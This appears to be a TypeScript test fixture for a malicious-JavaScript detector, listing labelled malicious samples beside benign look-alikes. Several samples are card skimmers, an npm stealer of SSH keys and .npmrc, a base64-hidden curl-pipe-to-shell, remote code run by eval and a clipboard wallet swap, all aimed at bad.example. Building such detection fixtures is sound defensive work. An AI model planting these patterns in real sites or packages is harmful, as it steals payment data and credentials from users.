import type { Named } from './index.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const codes = (text: string) => [...text].map((char) => char.charCodeAt(0)).join(',');
const turned = (text: string) => [...text].reverse().join('');
const shifted = (text: string) =>
  [...text].map((char) => String.fromCharCode(char.charCodeAt(0) ^ 5)).join('');
const hexOf = (text: string) => Buffer.from(text).toString('hex');
const every = (text: string, step: number) => [...text].map((char) => char.padEnd(step, 'q')).join('');

/** What is hidden in most of these: it does nothing. */
const TASK = 'document.location="about:blank";var a=1;';
const ALL_FIELDS = `document.querySelectorAll('input, select, textarea')`;

/** Scripts by what they show, built from harmless pieces. */
export const MALICIOUS_SCRIPTS: Named = {
  'exclusive or in a loop': `var s=${JSON.stringify(shifted(TASK))},o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)^5);}eval(o);`,
  'pairs of digits in a loop': `function d(h){var r='';for(var i=0;i<h.length;i+=2)r+=String.fromCharCode(parseInt(h.substr(i,2),16));return r;}eval(d('${hexOf(TASK)}'));`,
  'an alias of fromCharCode': `var f=String.fromCharCode,n=[${codes(TASK)}],o='';for(var i=0;i<n.length;i++)o+=f(n[i]-0);new Function(o)();`,
  'fromCharCode by a bracket': `var n=[${codes(TASK)}],o='';for(var i in n)o+=String['from'+'CharCode'](n[i]);window['ev'+'al'](o);`,
  'every third character': `var s='${every(TASK, 3).replaceAll('"', '')}',o='';for(var i=0;i<s.length;i+=3){o+=s.charAt(i);}eval(o);`,
  'a text turned round': `eval('${turned(TASK.replaceAll('"', '\\"')).replaceAll('\\', '')}'.split('').reverse().join(''));`,
  'a chain of replacements': `var t='QvalZ7x.yZ'.replace('Q','e').split('Z').join('(');var k=t.replace(/7/g,'"');new Function(k)();`,
  'a shift of codes with a name for eval': `var e=eval,s='${shifted(TASK).replace(/[^a-z]/g, '')}',o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)-3);e(o);`,
  'a decoder written into the page': `function u(a){var r='';for(var i=0;i<a.length;i++)r+=String.fromCharCode(a[i]^33);return r;}document.write(u([${codes('<script src=x>')}]));`,
  'the text of a script element': `var o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c[i]-7);var s=document.createElement('script');s.text=o;document.head.appendChild(s);`,
  'the constructor of a function': `[]['filter']['constructor'](atob('${base64(TASK)}'))();`,
  'an answer that is run': `fetch('https://bad.example/a').then(r=>r.text()).then(t=>eval(t));`,
  'a request whose answer is run': `var x=new XMLHttpRequest();x.open('GET','https://bad.example/a.txt',true);x.onload=function(){(new Function(x.responseText))();};x.send();`,
  'a script from a hidden host on checkout pages': `if(/onepage|checkout/.test(location.href)){var s=document.createElement('script');s.src='https://'+atob('${base64('bad.example/a.js')}');document.head.appendChild(s);}`,
  'fields of a payment by an image': `setInterval(function(){if(location.href.indexOf('checkout')<0)return;var d='';var f=${ALL_FIELDS};for(var i=0;i<f.length;i++)d+=f[i].name+'='+f[i].value+'&';new Image().src='https://bad.example/i.gif?x='+encodeURIComponent(d);},900);`,
  'fields of a form by a beacon': `document.querySelector('#place_order').addEventListener('click',function(){var o={};${ALL_FIELDS}.forEach(function(e){o[e.id]=e.value});navigator.sendBeacon('https://bad.example/b',JSON.stringify(o));});`,
  'fields hoarded until they are sent': `jQuery(function($){$('form').on('change','input',function(){localStorage.setItem('_ga9',btoa(JSON.stringify($('form.checkout').serializeArray())));});if(localStorage.getItem('_ga9')){$.post('https://bad.example/p',{d:localStorage.getItem('_ga9')});}});`,
  'card fields over a socket': `var w=new WebSocket('wss://bad.example/s');document.addEventListener('blur',function(){var n=document.querySelector('[name="payment[cc_number]"]').value;w.send(btoa(n+'|'+document.querySelector('[name="payment[cc_cid]"]').value));},true);`,
  'objects of Windows by a variable': `var n=['WScr'+'ipt.Shell','MSX'+'ML2.XMLHTTP'];var s=new ActiveXObject(n[0]);s.Run(c);`,
  'objects of Windows from a list': `var x=['WScript.Shell','Run','cmd.exe /c calc'];new ActiveXObject(x[0])[x[1]](x[2],0);`,
  'a script host by a bracket': `var k='Create';WScript[k+'Object']('WScript.Shell')['Run'](a);`,
  'strings of an obfuscator with ordinary names': `function words(){var k=['log','12AbCd','warn'];words=function(){return k;};return words();}(function(a,b){var q=read,l=a();while(!![]){try{var v=parseInt(q(1))/1+-parseInt(q(2))/2*(parseInt(q(3))/3);if(v===b)break;else l['push'](l['shift']());}catch(e){l['push'](l['shift']());}}}(words,12345));function read(a,b){var w=words();return read=function(c,d){c=c-1;return w[c];},read(a,b);}`,
  'npm: keys and the environment': `const fs=require('fs'),os=require('os'),https=require('https');const d={k:fs.readFileSync(os.homedir()+'/.ssh/id_rsa','utf8'),n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')};const r=https.request({hostname:'bad.example',method:'POST'});r.write(JSON.stringify(d));r.end();`,
  'npm: a command in base64': `const{exec}=require('child_process');exec(Buffer.from('${base64('curl http://bad.example/i | sh')}','base64').toString());`,
  'npm: code in base64': `eval(Buffer.from('${base64(TASK)}','base64').toString('utf8'));`,
  'a wallet put in place of another': `document.addEventListener('copy',function(e){var t=window.getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)){e.clipboardData.setData('text/plain','1BadBadBadBadBadBadBadBadBadBadBad');e.preventDefault();}});`,
};

/** Neighbours of the above that do what they should. */
export const CLEAN_SCRIPTS: Named = {
  'a codec of base64': `(function(root){var k='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';root.decode=function(s){var o='',i=0;while(i<s.length){var a=k.indexOf(s.charAt(i++)),b=k.indexOf(s.charAt(i++));o+=String.fromCharCode(a<<2|b>>4);}return o;};})(this);`,
  'bytes to text': `function toText(bytes){var out='';for(var i=0;i<bytes.length;i++){out+=String.fromCharCode(bytes[i]);}return decodeURIComponent(escape(out));}document.getElementById('x').textContent=toText(data);`,
  'a hash': `function md5(s){var r='';for(var i=0;i<s.length*8;i+=8)r+=String.fromCharCode((w[i>>5]>>>(i%32))&255);return r;}function sum(s){var h=0;for(var i=0;i<s.length;i++)h=(h<<5)-h+s.charCodeAt(i);return h^0xff;}register(md5,sum);`,
  'a template engine': `function compile(text){var src="var p='';p+='"+text.replace(/\\n/g,'\\\\n').replace(/<%=(.+?)%>/g,"'+($1)+'")+"';return p;";return new Function('data',src);}`,
  'the global object': `var root=typeof self=='object'&&self||Function('return this')()||[].constructor.constructor('return this')();root.shop={};`,
  'objects read before JSON.parse': `function parse(s){if(window.JSON)return JSON.parse(s);return eval('('+s+')');}var x=new XMLHttpRequest();x.open('GET','/data.json');x.onload=function(){parse(x.responseText)};x.send();`,
  'a request of old browsers': `function make(){var ids=['MSXML2.XMLHTTP.6.0','MSXML2.XMLHTTP.3.0','Microsoft.XMLHTTP'];for(var i=0;i<ids.length;i++){try{return new ActiveXObject(ids[i]);}catch(e){}}return new XMLHttpRequest();}`,
  'a plug-in of old browsers': `var FLASH='ShockwaveFlash.ShockwaveFlash';try{var a=new ActiveXObject(FLASH);if(a){v=a.GetVariable('$version');}}catch(e){}`,
  'an analytics loader': `(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','UA-1-1','auto');ga('send','pageview');`,
  'a tag manager': `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC');`,
  'a script of a bank on a checkout page': `jQuery(function($){if($('form.checkout').length){var s=document.createElement('script');s.src='https://js.stripe.com/v3/';s.onload=function(){mountCard('#card-element');};document.head.appendChild(s);}});`,
  'a checkout of a shop': `jQuery(function($){var checkout={submit:function(){var form=$('form.checkout');$.ajax({type:'POST',url:wc_checkout_params.checkout_url,data:form.serialize(),dataType:'json',success:function(r){if(r.result==='success')window.location=decodeURI(r.redirect);}});return false;}};$('form.checkout').on('submit',checkout.submit);$('#billing_country, #card_number').on('change',function(){$('body').trigger('update_checkout');});});`,
  'fields to its own host': `form.addEventListener('submit',function(e){e.preventDefault();var o={};document.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});fetch('/wp-json/shop/v1/checkout',{method:'POST',body:JSON.stringify(o)});});`,
  'a newsletter to a service': `$('#signup').on('submit',function(){$.post('https://lists.example/subscribe',$(this).serialize(),function(){$('#thanks').show();});return false;});`,
  'a check of a card number': `function luhn(n){var s=0;for(var i=0;i<n.length;i++){var d=parseInt(n.charAt(i),10);if(i%2){d*=2;if(d>9)d-=9;}s+=d;}return s%10===0;}document.querySelector('[name=card_number]').addEventListener('input',function(e){var v=e.target.value.replace(/\\D/g,'');e.target.classList.toggle('bad',!luhn(v));});`,
  'a beacon of measures': `addEventListener('visibilitychange',function(){navigator.sendBeacon('https://stats.example/v',JSON.stringify({url:location.href,ref:document.referrer,t:performance.now()}));});`,
  'a conversion on the page after an order': `if(location.pathname.indexOf('/checkout/order-received')>-1){var i=new Image();i.src='https://ads.example/c.gif?order='+encodeURIComponent(order.id)+'&value='+order.total;}`,
  'a draft kept in the browser': `$('#form').on('change','input',function(){localStorage.setItem('draft',JSON.stringify($('#form').serializeArray()));});$('#form').on('submit',function(){localStorage.removeItem('draft');});`,
  'an address of mail against robots': `function mail(e){var s=e.getAttribute('data-m').split('').reverse().join('');e.href='mailto:'+s;e.innerHTML=s;}`,
  'the colours of a text': `function hex(h){var o=[];for(var i=0;i<h.length;i+=2)o.push(parseInt(h.substr(i,2),16));return o;}el.style.color='rgb('+hex('ff8800').join(',')+')';`,
  'an editor of code': `run.onclick=function(){var code=editor.getValue();output.innerHTML='';try{(0,eval)(code);}catch(e){output.textContent=e;}};`,
  'a module loader': `define(['text!./a.html','jquery'],function(html,$){var cache={};return{load:function(name,req,done){req(['text!'+name],function(t){cache[name]=t;done(t);});}};});`,
  'a key of a public service': `var key=atob('${base64('pk_live_12345')}');client.init(key,{host:'https://api.example/'});`,
  'a download in the browser': `var bytes=atob(parts[1]),list=[];for(var i=0;i<bytes.length;i++)list.push(bytes.charCodeAt(i));var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([new Uint8Array(list)]));a.download='a.pdf';a.click();`,
  'a claim of a token': `function claims(t){var b=t.split('.')[1].replace(/-/g,'+').replace(/_/g,'/');return JSON.parse(decodeURIComponent(atob(b).split('').map(function(c){return '%'+('00'+c.charCodeAt(0).toString(16)).slice(-2);}).join('')));}`,
  'a language of the visitor': `var to={de:'/de/',fr:'/fr/'}[navigator.language.slice(0,2)];if(to&&!document.cookie.match(/lang=/)){document.cookie='lang=1';location.href=to;}`,
  'a page for telephones': `if(/android|iphone/i.test(navigator.userAgent)){location.replace('https://m.shop.example'+location.pathname);}`,
  'a counter of copies': `document.addEventListener('copy',function(e){var t=getSelection().toString();e.clipboardData.setData('text/plain',t+' Read more: '+location.href);e.preventDefault();});`,
  'npm: a build script': `const{execSync}=require('child_process'),fs=require('fs'),path=require('path');const pkg=JSON.parse(fs.readFileSync(path.join(process.cwd(),'package.json'),'utf8'));execSync('tsc --project '+(process.env.TSCONFIG||'tsconfig.json'),{stdio:'inherit',env:process.env});fs.writeFileSync('dist/version.txt',pkg.version);`,
  'npm: a binary fetched when it is installed': `const https=require('https'),fs=require('fs'),os=require('os');const url='https://github.com/a/b/releases/download/v1/'+os.platform()+'.tar.gz';https.get(url,{headers:{authorization:process.env.GITHUB_TOKEN}},r=>r.pipe(fs.createWriteStream('b.tar.gz')));`,
  'npm: settings of a registry': `const fs=require('fs'),os=require('os'),path=require('path');const rc=fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8');const registry=/registry=(.+)/.exec(rc)[1];fetch(registry+'/-/ping').then(r=>console.log(r.status));`,
  'a turned list': `var words=title.split(' ').reverse().join(' ');var tail=title.split('').reverse().join('');list.innerHTML='<li>'+words+'</li>';show(tail);`,
  'a switch that is minified': `!function(){function n(n,r){for(;;)switch(n.prev=n.next){case 0:return n.next=2,r();case 2:return n.abrupt("return",n.sent);case 3:case"end":return n.stop()}}window.shopRun=n}();`,
};
